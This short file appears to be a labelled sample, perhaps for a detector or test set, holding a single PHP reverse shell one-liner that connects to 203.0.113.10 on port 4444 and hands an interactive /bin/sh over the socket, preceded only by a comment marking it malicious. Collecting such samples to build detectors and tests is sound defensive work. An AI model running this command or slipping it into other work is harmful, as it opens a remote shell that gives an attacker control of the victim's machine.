# Malicious: a php reverse shell one-liner run from bash.
php -r '$sock=fsockopen("203.0.113.10",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
